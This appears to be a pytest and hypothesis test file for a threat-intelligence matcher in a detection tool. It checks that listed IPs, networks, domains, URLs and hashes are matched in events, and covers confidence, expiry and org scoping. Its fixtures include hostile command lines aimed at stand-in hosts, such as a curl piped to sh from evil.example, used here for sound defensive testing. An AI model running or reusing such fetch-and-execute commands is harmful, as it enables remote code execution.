"""Matching: the same as looking at every value of every event, one by one."""

from __future__ import annotations

import ipaddress

import pytest
from hypothesis import given
from hypothesis import strategies as st

from event_frames import frames_of
from intel.feeds import NOW, connection, index, indicator, matcher
from tocsin.intel.index import FeedIndex
from tocsin.intel.indicator import Kind
from tocsin.intel.match import Matcher
from tocsin.intel.table import gather, with_hidden
from tocsin.intel.value import domain
from tocsin.model.event import Event
from tocsin.model.finding import EVIDENCE_KEPT, Finding, alert_id

_HASH = "ef537f25c895bfa782526529a9b63d97aa631564d5d789c2b765448c8635fb6c"


def _found(feeds: Matcher, *events: Event) -> list[Finding]:
    return feeds.findings(frames_of(events))


@pytest.mark.parametrize(
    ("listed", "event", "title"),
    [
        ("198.51.1.7", connection("198.51.1.7"), "Connection to 198.51.1.7"),
        ("198.51.1.0/24", connection("198.51.1.7"), "Connection to 198.51.1.7 (198.51.1.0/24)"),
        ("2a00::/32", connection("2A00:0:0::1"), "Connection to 2a00::1 (2a00::/32)"),
        ("198.51.1.7", connection("::ffff:198.51.1.7"), "Connection to 198.51.1.7"),
        (
            "198.51.1.7",
            Event(3002, {"time": NOW, "activity_id": 1, "src_endpoint.ip": "198.51.1.7"}),
            "Login from 198.51.1.7",
        ),
        (
            "evil.example",
            Event(4003, {"time": NOW, "query.hostname": "A.B.Evil.Example."}),
            "Query for evil.example",
        ),
        (
            "198.51.1.7",
            Event(4003, {"time": NOW, "answers": '[{"rdata": "x.example"}, {"rdata": "198.51.1.7"}]'}),
            "Answer with 198.51.1.7",
        ),
        (
            "http://evil.example/x?y",
            Event(1007, {"time": NOW, "process.cmd_line": "sh -c 'curl -s HTTP://Evil.example:80/x?y|sh'"}),
            "http://evil.example/x?y in a command",
        ),
        (
            "evil.example",
            Event(1007, {"time": NOW, "process.cmd_line": "curl https://cdn.evil.example/x"}),
            "evil.example in a command",
        ),
        (
            "198.51.1.0/24",
            Event(1007, {"time": NOW, "process.cmd_line": "wget http://198.51.1.7/x"}),
            "198.51.1.7 (198.51.1.0/24) in a command",
        ),
        (
            _HASH,
            Event(1007, {"time": NOW, "process.file.hashes": f'[{{"algorithm_id": 3, "value": "{_HASH.upper()}"}}]'}),
            f"Program with hash {_HASH} run",
        ),
    ],
)
def test_what_is_listed_is_found_where_events_hold_it(listed: str, event: Event, title: str) -> None:
    """Addresses, networks, names and their parents, URLs and hashes are found in each class's own attributes."""
    (finding,) = _found(matcher(listed), event)
    assert finding.title == f"{title}, listed by feed"
    assert finding.rule_id == f"intel:{indicator(listed).kind.value}"
    assert finding.group == {"device.uid": "host-1", "indicator": indicator(listed).value}
    assert finding.event


def test_a_finding_says_who_lists_it_and_since_when() -> None:
    """The term that is met names indicator, feed, confidence, first sight, expiry, age and the feed's own object."""
    known = indicator("198.51.1.7", confidence=80, valid_until=NOW // 1000 + 60, tags=("c2",), source="indicator--1")
    (finding,) = _found(matcher(known), connection("198.51.1.7"))
    (term,) = finding.met
    assert (term.field, term.value) == ("dst_endpoint.ip", "198.51.1.7")
    assert term.term == (
        "ip 198.51.1.7 in feed feed, confidence 80, listed since 2024-10-03 00:00 UTC, until 2024-10-04 00:01 UTC, "
        "feed 1.0 h old, indicator--1"
    )
    assert finding.tags == ("intel", "c2")


def test_several_feeds_make_one_finding() -> None:
    """An indicator that two feeds list is one alert at the higher level that names both."""
    feeds = Matcher([index(["198.51.1.7"], "a", level="low"), index(["198.51.1.7"], "b", level="critical")])
    (finding,) = _found(feeds, connection("198.51.1.7"))
    assert finding.title == "Connection to 198.51.1.7, listed by a and 1 more"
    assert finding.level == "critical"
    assert len(finding.met) == 2


@pytest.mark.parametrize(("confidence", "level"), [(None, "high"), (70, "high"), (69, "medium"), (29, "low")])
def test_less_confidence_lowers_the_level(confidence: int | None, level: str) -> None:
    """Medium confidence is one level lower, low confidence two; a feed that says none is believed."""
    (finding,) = _found(matcher(indicator("198.51.1.7", confidence=confidence)), connection("198.51.1.7"))
    assert finding.level == level


def test_expiry_is_that_of_the_event() -> None:
    """An indicator holds for events within its time; searching history also for those before it was published."""
    feeds = matcher(indicator("198.51.1.7", valid_from=NOW // 1000, valid_until=NOW // 1000 + 60))
    times = [NOW - 1_000, NOW, NOW + 59_999, NOW + 60_000]
    frames = frames_of([connection("198.51.1.7", time) for time in times])
    assert [finding.time for finding in feeds.findings(frames)] == times[1:3]
    assert [finding.time for finding in feeds.findings(frames, historic=True)] == times[:3]
    assert all("historic" in finding.tags for finding in feeds.findings(frames, historic=True))


def test_an_orgs_feed_is_its_own() -> None:
    """A feed of one org does not match another's events; one of all orgs does."""
    assert _found(Matcher([index(["198.51.1.7"], org="org")]), connection("198.51.1.7"))
    assert not _found(Matcher([index(["198.51.1.7"], org="other")]), connection("198.51.1.7"))


def test_private_and_own_addresses_match_only_where_wanted() -> None:
    """A list with a private address in it, or with our own, raises no alarm unless the feed is told to."""
    listed = ("10.1.2.3", "127.0.0.1", "198.51.1.7")
    events = [connection("10.1.2.3"), connection("127.0.0.1"), connection("198.51.1.7", own="198.51.1.7")]
    assert not _found(matcher(*listed), *events)
    assert len(_found(matcher(*listed, private=True), *events)) == 3


def test_hidden_indicators_do_not_match() -> None:
    """What a warning list hides is kept in the feed, but not matched."""
    rows = gather([indicator("198.51.1.7"), indicator("198.51.1.8")], 1).rows
    hidden = with_hidden(rows, ["cdn", None])
    feeds = Matcher([FeedIndex(index([]).feed, hidden)])
    assert len(feeds) == 1
    assert [f.group["indicator"] for f in _found(feeds, connection("198.51.1.7"), connection("198.51.1.8"))] == [
        "198.51.1.8"
    ]


def test_of_many_sightings_some_are_kept_whole() -> None:
    """An alert keeps so many events whole; of the others it gets to know that they were."""
    found = _found(matcher("198.51.1.7"), *(connection("198.51.1.7", NOW + n) for n in range(EVIDENCE_KEPT + 5)))
    assert len({alert_id(finding) for finding in found}) == 1
    assert [bool(finding.event) for finding in found] == [True] * EVIDENCE_KEPT + [False] * 5


_OCTET = st.sampled_from([1, 2, 8, 255])
_ADDRESS = st.tuples(_OCTET, _OCTET, _OCTET, _OCTET).map(lambda parts: ".".join(map(str, parts)))
_NETWORK = st.tuples(_ADDRESS, st.integers(8, 32)).map(lambda pair: f"{pair[0]}/{pair[1]}")
_ADDRESS6 = st.integers(0, 2**20).map(lambda n: str(ipaddress.IPv6Address((0x2A00 << 112) + (n % 8 << 60) + n)))
_NETWORK6 = st.tuples(_ADDRESS6, st.integers(16, 128)).map(lambda pair: f"{pair[0]}/{pair[1]}")
_NAME = st.lists(st.sampled_from(["a", "b", "evil", "x-1"]), min_size=1, max_size=4).map(
    lambda labels: ".".join([*labels, "example"])
)
_LISTED = st.lists(st.one_of(_ADDRESS, _NETWORK, _ADDRESS6, _NETWORK6, _NAME), max_size=12)
_EVENTS = st.lists(
    st.one_of(
        st.one_of(_ADDRESS, _ADDRESS6).map(connection),
        st.tuples(_NAME, _ADDRESS).map(
            lambda pair: Event(4003, {"time": NOW, "query.hostname": pair[0].upper(), "dst_endpoint.ip": pair[1]})
        ),
    ),
    max_size=12,
)


def _naive(listed: list[str], event: Event) -> set[str]:
    """What of a feed an event holds, value by value, with nothing but the standard library."""
    found = set()
    for text in listed:
        known = indicator(text)
        for path in ("dst_endpoint.ip", "query.hostname"):
            value = event.values.get(path)
            if isinstance(value, str) and _same(known.kind, known.value, value):
                found.add(known.value)
    return found


def _same(kind: Kind, listed: str, value: str) -> bool:
    if kind is Kind.DOMAIN:
        name = domain(value)
        return name is not None and (name == listed or name.endswith(f".{listed}"))
    try:
        address = ipaddress.ip_address(value)
    except ValueError:
        return False
    return address in ipaddress.ip_network(listed)


@given(_LISTED, _LISTED, _EVENTS, st.integers(1, 12))
def test_matching_is_looking_at_every_value(one: list[str], two: list[str], events: list[Event], size: int) -> None:
    """For any feeds, events and batches the same is found as value by value; asking again finds the same again."""
    feeds = Matcher([index(one, "one", private=True), index(two, "two", private=True)])
    numbered = [Event(event.class_uid, {**event.values, "time": NOW + row}) for row, event in enumerate(events)]
    expected = sorted((NOW + row, value) for row, event in enumerate(events) for value in _naive(one + two, event))
    batches = [numbered[start : start + size] for start in range(0, len(numbered), size)]
    for _ in range(2):
        found = feeds.findings(frames_of(*batches))
        assert sorted((finding.time, finding.group["indicator"]) for finding in found) == expected
